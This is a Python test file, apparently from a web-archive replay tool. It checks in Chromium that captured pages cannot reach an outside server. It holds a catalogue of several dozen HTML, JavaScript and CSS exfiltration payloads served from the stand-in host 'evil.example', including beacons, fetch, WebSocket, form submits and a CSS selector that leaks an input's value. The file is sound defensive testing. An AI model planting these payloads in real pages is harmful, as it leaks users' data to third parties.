"""Ways out of a captured page, tried one by one in Chromium.

Each is tried three times. Without any policy it reaches a server outside, which shows that the attempt is one. With the
headers of replay, and nothing else in its way, it does not. Nor does it in replay, and where captures are given out as
they were.
"""

from __future__ import annotations

import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.pipeline.web.pages.library import COURT, Library, Served, at, served
from tests.pipeline.web.pages.test_browser_pages import chromium, no_browser, outside
from tests.site import Site, answer
from tests.waiting import wait_for

pytestmark = [no_browser, pytest.mark.full]

__all__ = ["chromium", "outside"]  # fixtures

# OUT is the server outside, NAME the attempt's own name: what comes there as /NAME has got out. HIT goes there by script.
HIT = "new Image().src='OUT/NAME';"
TOGETHER = {
    "script": f"<script>{HIT}</script>",
    "script-source": "<script src='OUT/NAME'></script>",
    "module": "<script type=module>import 'OUT/NAME'</script>",
    "import-map": "<script type=importmap>{\"imports\":{\"x\":\"OUT/NAME\"}}</script><script type=module>import 'x'</script>",
    "handler": f'<img src="data:,x" onerror="{HIT}">',
    "svg-script": f"<svg><script>{HIT}</script></svg>",
    "svg-load": f'<svg onload="{HIT}"></svg>',
    "srcdoc-script": f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    "srcdoc-image": "<iframe srcdoc=\"<img src='OUT/NAME'>\"></iframe>",
    "script-frame": f'<iframe src="javascript:{HIT}void 0"></iframe>',
    "data-frame": f'<iframe src="data:text/html,<script>{HIT}</script>"></iframe>',
    "data-object": '<object type="text/html" data="data:text/html,<img src=OUT/NAME>"></object>',
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('OUT/NAME')\"])))</script>",
    "beacon": "<script>navigator.sendBeacon('OUT/NAME')</script>",
    "socket": "<script>new WebSocket('OUT/NAME'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('OUT/NAME')</script>",
    "fetch": "<script>fetch('OUT/NAME', {mode: 'no-cors'})</script>",
    "service-worker": "<script>navigator.serviceWorker.register('/sw.js').then(() => fetch('OUT/NAME', {mode: 'no-cors'}))</script>",
    "cookie": f"<script>document.cookie = 'kept=1'; if (document.cookie.includes('kept')) {HIT}</script>",
    "storage": f"<script>localStorage.kept = 1; {HIT}</script>",
    "window": "<script>open('OUT/NAME')</script>",
    "message": f"<iframe srcdoc=\"<script>parent.postMessage('NAME', '*')</script>\"></iframe><script>onmessage = () => {{ {HIT} }}</script>",
    "frame-reads-frame": f"<iframe id=read srcdoc='<p>x'></iframe><script>read.onload = () => {{ if (read.contentDocument.body) {HIT} }}</script>",
    "css-import": "<style>@import 'OUT/NAME';</style>",
    "css-background": "<style>body{background:url(OUT/NAME)}</style>",
    "css-secret": "<input value=secret><style>input[value^=s]{background:url(OUT/NAME)}</style>",
    "css-font": "<style>@font-face{font-family:f;src:url(OUT/NAME)}h2{font-family:f}</style><h2>x</h2>",
    "css-content": "<style>h3::before{content:url(OUT/NAME)}</style><h3>x</h3>",
    "css-set": "<style>h4{background:image-set('OUT/NAME' 1x)}</style><h4>x</h4>",
    "style-attribute": "<p style='background:url(OUT/NAME)'>x</p>",
    "sheet": "<link rel=stylesheet href='OUT/NAME'>",
    "preload": "<link rel=preload as=image href='OUT/NAME'>",
    "preload-module": "<link rel=modulepreload href='OUT/NAME'>",
    "prefetch": "<link rel=prefetch href='OUT/NAME'>",
    "image": "<img src='OUT/NAME'>",
    "image-set": "<img srcset='OUT/NAME 1x'>",
    "picture": "<picture><source srcset='OUT/NAME'><img></picture>",
    "image-button": "<input type=image src='OUT/NAME'>",
    "video": "<video src='OUT/NAME' preload=auto></video>",
    "poster": "<video poster='OUT/NAME'></video>",
    "sound": "<audio src='OUT/NAME' preload=auto></audio>",
    "object": "<object data='OUT/NAME'></object>",
    "embed": "<embed src='OUT/NAME'>",
    "frame": "<iframe src='OUT/NAME'></iframe>",
    "svg-image": "<svg><image href='OUT/NAME' width=9 height=9 /></svg>",
    "svg-filter": "<svg><filter id=f><feImage href='OUT/NAME'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "table": "<table background='OUT/NAME'><tr><td>x</table>",
}  # fmt: skip
ALONE = {  # what leads away, and what changes the page for all else
    "refresh": "<meta http-equiv=refresh content='0;url=OUT/NAME'>",
    "location": "<script>location = 'OUT/NAME'</script>",
    "top": "<script>top.location = 'OUT/NAME'</script>",
    "submitted": "<form id=f action='OUT/NAME'></form><script>f.submit()</script>",
    "base": "<base href='OUT/NAME/'><img src=x>",
    "frames": "<frameset cols='*'><frame src='OUT/NAME'></frameset>",
}
CLICKED = {
    "form": "<form action='OUT/NAME'><button id=go>x</button></form>",
    "form-action": "<form><button id=go formaction='OUT/NAME' formmethod=post>x</button></form>",
    "form-outside": "<form id=f action='OUT/NAME' target=_blank></form><button id=go form=f>x</button>",
    "script-link": f'<a id=go href="javascript:{HIT}void 0">x</a>',
    "ping": "<a id=go href='#x' ping='OUT/NAME'>x</a>",
    "download": "<a id=go download href='OUT/NAME'>x</a>",
    "opened": "<a id=go target=_blank rel=opener href='OUT/NAME'>x</a>",
}
LINK = "download"  # no policy ends a link that a reader follows; in replay it leads to the archive
HEADERS = ("Refresh: 0; url=OUT/header-refresh", "Link: <OUT/header-link>; rel=preload; as=image", "Set-Cookie: a=b")


@dataclass
class Attempts:
    """Pages that try something, as one server outside would have them come to it."""

    out: str

    def page(self, *names: str) -> bytes:
        tries = TOGETHER | ALONE | CLICKED
        body = "".join(tries[name].replace("OUT", self.out).replace("NAME", name) for name in names)
        head = "" if "<frameset" in body else "<h1>A page</h1>"
        return f"<!doctype html><title>Captured</title>{head}{body}".encode()

    @property
    def pages(self) -> dict[str, bytes]:
        alone = {name: self.page(name) for name in (*ALONE, *CLICKED)}
        return {"together": self.page(*TOGETHER), **alone}

    @property
    def headers(self) -> tuple[str, ...]:
        return tuple(each.replace("OUT", self.out) for each in HEADERS)


_TITLES = {"Captured", "Not in this archive"}  # a link leads to the archive, which does not have it


def _tried(chromium: Any, urls: dict[str, str], arrived: Callable[[str], None] | None = None) -> list[str]:
    """Visit each page, click what is to be clicked, and wait; what is left in the browser: cookies, workers, titles."""
    context = chromium.new_context(accept_downloads=False)
    left: list[str] = []
    for name, url in urls.items():
        page = context.new_page()
        page.goto(url)
        if name in CLICKED:
            page.locator("#go").click()
        page.wait_for_timeout(1000 if name == "together" else 150)
        if arrived is not None:
            arrived(name)
        elif page.title() not in _TITLES and "id_/" not in url:
            left.append(f"{name}: {page.title()}")
        page.close()
    left += [cookie["name"] for cookie in context.cookies()] + [worker.url for worker in context.service_workers]
    context.close()
    return left


@pytest.fixture
def running(library: Library, tmp_path: Path) -> Iterator[Served]:
    with served(library, tmp_path) as both:
        yield both


def test_no_attempt_gets_out_of_replay(chromium: Any, library: Library, running: Served, outside: Site) -> None:
    attempts = Attempts(outside.url("").rstrip("/"))
    moment = at("2026-01-01T00:00:00")
    head = "".join(f"{line}\r\n" for line in attempts.headers)
    captures = [(f"https://evil.example/{name}", moment, {"body": body}) for name, body in attempts.pages.items()]
    headed = ("https://evil.example/head", moment, {"body": attempts.page(), "head": head})
    text = ("https://evil.example/text", moment, {"body": attempts.page("script"), "kind": "text/plain"})
    library.keep(*captures, headed, text)
    for base in (f"{running.replay}/20260101000000", f"{running.pages}/web/20260101000000id_"):
        tried = (
            [*attempts.pages, "head"] if base.startswith(running.replay) else ["together", *ALONE]
        )  # there it is a text
        assert _tried(chromium, {name: f"{base}/https://evil.example/{name}" for name in tried}) == []
        assert outside.connections == 0, base
    page = chromium.new_page()
    page.goto(f"{running.replay}/20260101000000/https://evil.example/text")
    assert page.evaluate("document.contentType") == "text/plain"
    page.close()
    assert outside.connections == 0


def test_each_attempt_is_one_and_the_headers_alone_end_it(chromium: Any, both: Served, outside: Site) -> None:
    attempts = Attempts(outside.url("").rstrip("/"))
    with urllib.request.urlopen(f"{both.replay}/20240401/{COURT}") as reply:
        own = {"content-type", "content-length", "date", "memento-datetime"}
        walls = tuple(f"{name}: {value}" for name, value in reply.headers.items() if name.lower() not in own)
    with Site() as site:
        site.answers["/sw.js"] = answer(b"", kind="text/javascript")
        for name, body in attempts.pages.items():
            site.answers[f"/walled/{name}"] = answer(body, headers=walls)
            site.answers[f"/plain/{name}"] = answer(body)
        urls = {name: site.url(f"/walled/{name}") for name in attempts.pages if name != LINK}
        assert _tried(chromium, urls) == []
        assert outside.requests == []
        site.answers["/plain/head"] = answer(attempts.page(), headers=attempts.headers)
        expected = {"together": set(TOGETHER), "head": {"header-refresh", "header-link"}}

        def arrived(name: str) -> None:
            wait_for(lambda: not _missing(outside, expected.get(name, {name})))

        _tried(chromium, {name: site.url(f"/plain/{name}") for name in (*attempts.pages, "head")}, arrived)


def _missing(outside: Site, wanted: set[str]) -> set[str]:
    """The attempts that have not come to the server outside."""
    return wanted - {path.strip("/").split("/")[0].split("?")[0] for path in outside.paths}
